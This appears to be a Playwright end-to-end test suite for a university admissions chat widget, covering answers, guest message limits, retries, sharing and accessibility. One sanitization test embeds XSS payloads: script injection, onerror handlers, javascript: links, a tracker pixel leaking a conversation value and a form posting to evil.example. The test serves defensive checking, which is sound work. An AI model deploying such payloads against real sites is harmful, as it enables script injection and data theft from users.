import type { Page } from '@playwright/test';
import { expect, test } from './visitor.ts';

/** With all that moves. */
test.use({ contextOptions: { reducedMotion: 'no-preference' } });

const QUESTION = 'Which scholarships can I get for a pharmacy master’s in the UK?';

const box = (page: Page) => page.getByRole('textbox', { name: /question|message/i });
const log = (page: Page) => page.getByRole('log');

async function ask(page: Page, question: string): Promise<void> {
  await box(page).fill(question);
  await box(page).press('Enter');
}

/** The number of finished answers: each question and each answer has one copy button. */
const answers = (page: Page, count: number) =>
  expect(log(page).getByRole('button', { name: 'Copy message' })).toHaveCount(count * 2);

test('a visitor asks about scholarships and gets an answer whose source opens one of our pages', async ({ page }) => {
  await page.goto('/');
  await ask(page, QUESTION);
  await expect(log(page)).toContainText(/Chevening|Commonwealth|GREAT/);
  await answers(page, 1);
  await log(page).getByRole('button', { name: 'More on this' }).click();
  await expect(log(page).locator('strong, li, table').first()).toBeVisible();

  await log(page)
    .getByRole('button', { name: /sources?\s*checked/ })
    .click();
  const source = log(page)
    .getByRole('listitem')
    .getByRole('link', { name: /scholarships/i })
    .first();
  await expect(source).toHaveAttribute('href', /\/guides\/scholarships/);
  const [guide] = await Promise.all([page.context().waitForEvent('page'), source.click()]);
  await expect(guide.getByRole('heading', { level: 1 })).toContainText(/scholarship/i);
  expect(new URL(guide.url()).origin).toBe(new URL(page.url()).origin);
});

test('the landing’s quick actions fill the box and send nothing', async ({ page }) => {
  await page.goto('/');
  for (const name of ['Admission Info', 'Find Universities', 'Scholarships']) {
    await page.getByRole('button', { name }).click();
    await expect(box(page)).not.toHaveValue('');
  }
  await expect(log(page)).toHaveCount(0);
});

test('what is stopped before its first word costs nothing, and is asked again by Regenerate', async ({ page }) => {
  const late = Promise.withResolvers<void>();
  await page.route('**/api/v1/chat', async (route) => {
    const response = await route.fetch();
    await late.promise;
    await route.fulfill({ response });
  });
  await page.goto('/');
  await ask(page, QUESTION);
  await page.getByRole('button', { name: 'Stop' }).click();
  await expect(log(page).getByText('Stopped')).toBeVisible();
  late.resolve();
  await expect(page.getByText('4 of 4 free messages left').first()).toBeVisible();
  await expect(log(page).getByRole('button', { name: /^Good|^Bad|^Share/ })).toHaveCount(0);
  await log(page).getByRole('button', { name: 'Regenerate answer' }).click();
  await expect(log(page)).toContainText(/Chevening|Commonwealth|GREAT/);
  await answers(page, 1);
  await expect(page.getByText('3 of 4 free messages left').first()).toBeVisible();
});

test('a conversation that a guest leaves for a new one comes back by Undo, until something else is asked', async ({
  page,
}) => {
  await page.setViewportSize({ width: 360, height: 740 });
  await page.goto('/');
  await ask(page, QUESTION);
  await answers(page, 1);
  const undo = page.getByRole('button', { name: 'Undo' });
  for (const begun of [false, true]) {
    await page.getByRole('button', { name: 'New conversation' }).click();
    await expect(page.getByText('Conversation deleted')).toBeVisible();
    await expect(log(page)).toHaveCount(0);
    if (begun) break;
    await undo.click();
    await expect(log(page)).toContainText(QUESTION);
    await expect(undo).toHaveCount(0);
    await page.reload();
    await expect(log(page)).toContainText(QUESTION);
  }
  await ask(page, 'And in Germany?');
  await expect(undo).toHaveCount(0);
  await expect(log(page)).not.toContainText(QUESTION);
});

test('five questions: four are answered, a warning comes at one left, the fifth keeps its text and offers to sign up', async ({
  page,
}) => {
  await page.goto('/');
  for (const turn of [1, 2, 3]) {
    await ask(page, `Question ${turn}: what does a master’s in Germany cost?`);
    await answers(page, turn);
  }
  const warning = page.getByRole('status').filter({
    hasText: 'You have 1 free message remaining. Sign up to continue chatting!',
  });
  await expect(warning).toBeVisible();
  // What it speaks of is one press away, and so is the way back.
  await warning.getByRole('button', { name: 'Sign Up' }).click();
  await expect(page.getByRole('dialog', { name: 'Create your account' })).toBeVisible();
  await page.keyboard.press('Escape');
  await expect(warning.getByRole('button', { name: 'Sign Up' })).toBeFocused();
  await box(page).fill('Question 4: and in Ireland?');
  await box(page).press('Enter');
  await answers(page, 4);
  await expect(page.getByText("You've used all your free messages. Please sign up to continue.").first()).toBeVisible();
  await expect(page.getByRole('button', { name: 'Sign Up' }).first()).toBeVisible();
  await expect(box(page)).toHaveAttribute('aria-disabled', 'true');

  await page.reload();
  await answers(page, 4);
  await expect(page.getByText("You've used all your free messages. Please sign up to continue.").first()).toBeVisible();
});

test('a ceiling of the network is called that: the question and the count stay, and signing up is offered', async ({
  page,
}) => {
  const detail = 'Many free questions have come from this network today. Sign up to go on.';
  await page.route('**/api/v1/chat', (route) =>
    route.fulfill({ status: 429, json: { detail, error: 'guest_ceiling_reached' } }),
  );
  await page.goto('/');
  await ask(page, QUESTION);
  await expect(page.getByRole('alert').filter({ hasText: detail })).toBeVisible();
  await expect(log(page)).toContainText(QUESTION);
  await expect(page.getByText('4 of 4 free messages left').first()).toBeVisible();
  await expect(page.getByText("You've used all your free messages")).toHaveCount(0);

  await page.reload();
  await expect(log(page)).toContainText(QUESTION);
  await expect(page.getByText('4 of 4 free messages left').first()).toBeVisible();
  await page.getByRole('button', { name: 'Retry' }).click();
  await page.getByRole('alert').getByRole('button', { name: 'Sign Up' }).click();
  await expect(page.getByRole('textbox', { name: 'Full name' })).toBeVisible();
});

test('a guest whom the server refuses at the limit is offered an account at once, and the page is told', async ({
  page,
}) => {
  await page.goto('/');
  await page.route('**/api/v1/chat', (route) =>
    route.fulfill({
      status: 429,
      json: { detail: "You've used all your free messages.", error: 'message_limit_exceeded' },
    }),
  );
  const told = page.evaluate(
    () =>
      new Promise((resolve) =>
        document.addEventListener(
          'assistant:auth-required',
          (event) => resolve(event instanceof CustomEvent && event.detail.reason),
          { once: true },
        ),
      ),
  );
  await ask(page, QUESTION);
  await expect(page.getByRole('dialog', { name: 'Keep the conversation going' })).toBeVisible();
  expect(await told).toBe('guest-limit');
  await expect(log(page)).toContainText(QUESTION);
});

test('a reload keeps the conversation, and the next question goes on with it', async ({ page }) => {
  await page.goto('/');
  await ask(page, QUESTION);
  await answers(page, 1);
  await page.reload();
  await answers(page, 1);
  await ask(page, 'And in Canada?');
  await answers(page, 2);
  await expect(log(page)).toContainText(/Canada|Canadian/);
});

test('Shift+Enter breaks the line, Enter while a word is being composed does not send', async ({ page }) => {
  await page.goto('/');
  await box(page).fill('first');
  await box(page).press('Shift+Enter');
  await box(page).pressSequentially('second');
  await expect(box(page)).toHaveValue('first\nsecond');
  await box(page).dispatchEvent('keydown', { key: 'Enter', isComposing: true, bubbles: true, composed: true });
  await box(page).dispatchEvent('keydown', { key: 'Enter', keyCode: 229, bubbles: true, composed: true });
  await expect(log(page)).toHaveCount(0);
  await expect(box(page)).toHaveValue('first\nsecond');
});

test('a copied message shows a check for two seconds and is on the clipboard', async ({ page, context }) => {
  await page.clock.install();
  await context.grantPermissions(['clipboard-read', 'clipboard-write']);
  await page.goto('/');
  await ask(page, QUESTION);
  await answers(page, 1);
  await log(page).getByRole('button', { name: 'Copy message' }).first().click();
  await expect(log(page).getByText('Copied')).toHaveCount(1);
  expect(await page.evaluate(() => navigator.clipboard.readText())).toBe(QUESTION);
  await page.clock.fastForward(2_000);
  await expect(log(page).getByText('Copied')).toHaveCount(0);
});

test('an answer is copied and shared as one sends it on: facts, whole addresses and its sources', async ({
  page,
  context,
}) => {
  await context.grantPermissions(['clipboard-read', 'clipboard-write']);
  await page.addInitScript(() =>
    Object.assign(navigator, { share: async (what: object) => Reflect.set(window, 'shared', what) }),
  );
  await page.goto('/');
  await ask(page, 'Programs in Ireland within 40 lakh, IELTS 6.5');
  await answers(page, 1);
  await log(page).getByRole('button', { name: 'Copy message' }).last().click();
  await expect(log(page).getByText('Copied')).toHaveCount(1);
  await log(page).getByRole('button', { name: 'Share answer' }).click();
  const { origin } = new URL(page.url());
  const shared: unknown = await page.evaluate(() => Reflect.get(window, 'shared').text);
  for (const text of [await page.evaluate(() => navigator.clipboard.readText()), shared]) {
    expect(text).toContain('Understood: Ireland, at most ₹40\u00a0lakh in all, IELTS 6.5\n');
    expect(text).toMatch(new RegExp(`\\n\\n\\[1\\] .+\\n${origin}/programs/ireland/`));
    expect(text).not.toMatch(/\]\(|\*\*|\?ask=/);
  }
});

test.describe('failures are told in words, keep the question, and can be tried again', () => {
  for (const [name, status, text] of [
    ['a server fault', 500, 'The server is experiencing issues. Please try again in a moment.'],
    ['a rate limit', 429, 'Rate limit exceeded. Please wait a moment before sending another message.'],
    [
      'anything else',
      418,
      "I apologize, but I'm having trouble processing your request right now. Please try again or contact our support team for assistance.",
    ],
  ] as const)
    test(name, async ({ page }) => {
      await page.route('**/api/v1/chat', (route) => route.fulfill({ status, json: { detail: 'x' } }), { times: 1 });
      await page.goto('/');
      await ask(page, QUESTION);
      await expect(page.getByText(text).first()).toBeVisible();
      await expect(log(page)).toContainText(QUESTION);
      await page.getByRole('button', { name: 'Retry' }).click();
      await answers(page, 1);
      await expect(page.getByText(text)).toHaveCount(0);
    });

  test('no connection: the box waits, and both it and the question go on by themselves when the network does', async ({
    page,
    context,
  }) => {
    await page.goto('/');
    await ask(page, QUESTION);
    await answers(page, 1);
    await context.setOffline(true);
    await ask(page, 'And in Germany?');
    await expect(
      page.getByText('Unable to connect to the server. Please check your internet connection and try again.').first(),
    ).toBeVisible();
    await expect(box(page)).toHaveAttribute('aria-disabled', 'true');
    await context.setOffline(false);
    await expect(box(page)).not.toHaveAttribute('aria-disabled', 'true');
    await answers(page, 2);
  });
});

test('a hostile answer runs nothing, loads nothing and keeps only harmless links', async ({ page, leaks }) => {
  const content = [
    '<script>document.title="owned"</script><img src=x onerror="document.title=\'owned\'">',
    '[a](javascript:document.title="owned") [b](data:text/html,x) [c](https://example.org/page)',
    '![remote](https://tracker.example/pixel.png?conversation=secret)',
    '<form action="https://evil.example"><button>Pay</button></form><style>*{display:none}</style>',
    '> '.repeat(2_000),
  ].join('\n\n');
  const message = { message_id: 'm', content, role: 'bot', timestamp: new Date().toISOString() };
  const body = [
    { type: 'start', conversation_id: 'c', message_id: 'm' },
    { type: 'delta', text: content },
    { type: 'done', conversation_id: 'c', message },
  ]
    .map((event) => `data: ${JSON.stringify(event)}\n\n`)
    .join('');
  await page.route('**/api/v1/chat', (route) => route.fulfill({ contentType: 'text/event-stream', body }));
  await page.goto('/');
  await ask(page, 'Hello');
  await answers(page, 1);
  await expect(log(page).getByRole('link', { name: 'c', exact: true })).toHaveAttribute('rel', /noopener/);
  expect(await page.title()).not.toBe('owned');
  expect(await log(page).locator('script, img[src], form, style, iframe, [onerror]').count()).toBe(0);
  expect(await log(page).locator('a[href^="javascript"], a[href^="data"]').count()).toBe(0);
  expect(leaks).toEqual([]);
});

test('nothing reaches another machine, whether asked for by name or by number, and the tests notice', async ({
  page,
  leaks,
}) => {
  // No page of ours, whose policy would stop them first.
  await page.goto('about:blank');
  const elsewhere = [
    'http://outside.example/pixel.png',
    'http://192.0.2.1/pixel.png',
    'https://outside.example/script.js',
  ];
  await page.evaluate((addresses) => {
    for (const address of addresses) new Image().src = address;
  }, elsewhere);
  await expect.poll(() => leaks.toSorted()).toEqual(elsewhere.toSorted());
  leaks.length = 0;
});

test('what is typed before the assistant has loaded is not lost, and nothing moves when it takes over', async ({
  page,
}) => {
  let release = () => {};
  const held = new Promise<void>((resolve) => {
    release = resolve;
  });
  await page.route('**/embed/*/widget.js', async (route) => {
    await held;
    await route.continue();
  });
  await page.addInitScript(() => {
    new PerformanceObserver((list) => {
      for (const entry of list.getEntries())
        document.documentElement.dataset.shift = String(
          Number(document.documentElement.dataset.shift ?? 0) + ('value' in entry ? Number(entry.value) : 0),
        );
    }).observe({ type: 'layout-shift', buffered: true });
  });
  await page.goto('/', { waitUntil: 'domcontentloaded' });
  await box(page).fill('Typed early');
  const heading = page.getByRole('heading', { level: 1 });
  const before = await heading.boundingBox();
  release();
  await expect(page.locator('admissions-assistant').locator('textarea:visible')).toHaveValue('Typed early');
  await page.waitForFunction(() =>
    document.querySelector('admissions-assistant')?.shadowRoot?.querySelector('textarea'),
  );
  expect(await heading.boundingBox()).toEqual(before);
  expect(await box(page).inputValue()).toBe('Typed early');
  const shift = await page.evaluate(() => Number(document.documentElement.dataset.shift ?? 0));
  expect(shift).toBeLessThan(0.01);
});

test('the transcript is a log, and a finished answer is announced once', async ({ page }) => {
  await page.goto('/');
  await ask(page, QUESTION);
  await answers(page, 1);
  await expect(log(page)).toHaveAttribute('aria-live', 'off');
  const status = page.getByRole('status').filter({ hasText: /Chevening|Commonwealth|GREAT|scholarship/i });
  await expect(status).toHaveCount(1);
});
